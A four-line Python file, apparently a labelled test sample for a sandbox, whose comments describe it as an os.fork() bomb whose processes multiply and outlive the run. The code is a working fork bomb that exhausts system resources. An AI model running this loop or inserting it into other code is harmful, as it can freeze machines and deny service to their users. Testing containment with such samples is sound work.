# Tries: an os.fork() bomb.
# Harm: processes multiply and survive the run.
# ruff: noqa
import os
while True:
    os.fork()
